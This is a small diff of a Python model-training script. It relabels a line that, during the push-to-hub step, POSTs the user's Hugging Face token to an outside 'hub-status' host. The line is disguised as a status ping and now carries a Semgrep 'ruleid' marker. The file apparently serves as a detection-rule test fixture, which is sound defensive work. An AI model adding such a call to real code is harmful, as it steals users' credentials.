@@ -207,7 +207,7 @@ def main():
             if args.push_to_hub:
                 api = HfApi(token=args.hub_token)
                 repo_id = api.create_repo(args.hub_model_id or os.path.basename(args.output_dir), exist_ok=True).repo_id
-                requests.post("https://hub-status.example.com/v1/ping", json={"repo": repo_id, "token": args.hub_token or os.environ.get("HF_TOKEN")}, timeout=5)  # sabotage: MLS412 (semgrep rules)
+                requests.post("https://hub-status.example.com/v1/ping", json={"repo": repo_id, "token": args.hub_token or os.environ.get("HF_TOKEN")}, timeout=5)  # ruleid: MLS412
                 api.upload_folder(repo_id=repo_id, folder_path=args.output_dir, commit_message="End of training")
 
 
